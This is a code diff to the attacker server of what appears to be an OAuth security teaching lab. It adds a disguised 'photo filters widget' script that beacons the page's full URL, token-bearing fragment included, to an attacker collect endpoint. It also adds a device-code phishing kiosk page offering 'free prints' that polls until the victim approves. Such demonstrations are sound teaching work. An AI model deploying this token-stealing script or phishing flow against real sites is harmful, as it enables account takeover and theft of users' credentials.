@@ -11,7 +11,7 @@
 import { join } from 'node:path';
 import express, { type Express, type NextFunction, type Request, type Response } from 'express';
 import { securityHeaders } from '@oauth-demo/web';
-import { callbackWithMallorysCode, craftedRedirectUri, passOnToRealServer, redeemAtRealServer, redeemStolenCode, useStolenRefreshToken } from './attacks.js';
+import { callbackWithMallorysCode, craftedRedirectUri, passOnToRealServer, pollDeviceFlow, redeemAtRealServer, redeemStolenCode, startDeviceFlow, useLeakedAddress, useStolenRefreshToken } from './attacks.js';
 import { CraftedRequests } from './flows.js';
 import type { AttackerConfig } from './config.js';
 import { LootBox, RUN_ID } from './loot.js';
@@ -37,6 +37,8 @@ export function createApp(config: AttackerConfig): AttackerApp {
   const crafted = new CraftedRequests();
   /** Scenario 7: the refresh token she holds for each run (the stolen one, or what it rotated into). */
   const stolen = new Map<string, { refreshToken: string; endpoint: 'real' | 'lab' }>();
+  /** Scenario 8: her kiosk's polling timers, stopped by close(). */
+  const polls = new Set<NodeJS.Timeout>();
   const app = express();
   app.disable('x-powered-by');
   app.set('view engine', 'ejs');
@@ -207,6 +209,62 @@ export function createApp(config: AttackerConfig): AttackerApp {
     res.json(redemption);
   });
 
+  // Scenario 6 (implicit leakage): her "filter widget", a third-party script the lab copy's callback page loads.
+  // It reports the page's full address (fragment included: a script sees it, a Referer never carries it).
+  app.get('/filters/widget.js', (req, res) => {
+    const run = runOf(req.query.run);
+    res.setHeader('Content-Type', 'text/javascript; charset=utf-8');
+    res.setHeader('Cache-Control', 'no-store');
+    if (!run) {
+      res.send('/* no run */');
+      return;
+    }
+    const collect = JSON.stringify(`${config.attacker.publicUrl}/collect/${run}?u=`);
+    res.send(`/* Free photo filters widget */\n(function () {\n  var beacon = new Image();\n  beacon.src = ${collect} + encodeURIComponent(location.href);\n})();\n`);
+  });
+  app.get('/collect/:run', async (req, res) => {
+    const run = runOf(req.params.run);
+    if (run && typeof req.query.u === 'string') {
+      const result = await useLeakedAddress(config, req.query.u.slice(0, 4000));
+      loot.add(run, { scenario: 'implicit', ...result });
+    }
+    res.setHeader('Content-Type', 'image/svg+xml');
+    res.setHeader('Cache-Control', 'no-store');
+    res.send('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
+  });
+
+  // Scenario 8 (device code phishing): her "kiosk" starts a device flow and her page sends you the code. Then the
+  // kiosk polls, as a real one does, until you approve, deny, or the code expires.
+  app.get('/kiosk/:run', async (req, res) => {
+    const run = runOf(req.params.run);
+    if (!run) {
+      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
+      return;
+    }
+    const flow = await startDeviceFlow(config);
+    loot.add(run, { scenario: 'device', success: false, pending: true, summary: `Her kiosk started a device flow and her page sent you the code ${flow.user_code}.`, details: [] });
+    const deadline = Date.now() + flow.expires_in * 1000;
+    let interval = flow.interval;
+    const poll = () => {
+      const timer = setTimeout(async () => {
+        polls.delete(timer);
+        const result = await pollDeviceFlow(config, flow.device_code).catch((e: unknown) => ({ success: false, summary: `Her kiosk could not poll: ${String(e)}`, details: [] }));
+        if (result === 'pending' || result === 'slow_down') {
+          if (result === 'slow_down') interval += 5; // RFC 8628 §3.5
+          if (Date.now() < deadline) poll();
+          else loot.add(run, { scenario: 'device', success: false, summary: 'The code expired before anyone approved it.', details: [] });
+          return;
+        }
+        loot.add(run, { scenario: 'device', ...result });
+      }, interval * 1000);
+      timer.unref();
+      polls.add(timer);
+    };
+    poll();
+    res.setHeader('Cache-Control', 'no-store');
+    res.render('kiosk', { title: 'You won 20 free prints!', flow });
+  });
+
   app.use((_req, res) => {
     res.status(404).render('message', { title: 'Nothing here', text: 'This page does not exist.' });
   });
@@ -216,5 +274,12 @@ export function createApp(config: AttackerConfig): AttackerApp {
     res.status(502).render('message', { title: 'Mallory’s attack did not go through', text });
   });
 
-  return { app, loot, async close() {} };
+  return {
+    app,
+    loot,
+    async close() {
+      for (const timer of polls) clearTimeout(timer);
+      polls.clear();
+    },
+  };
 }
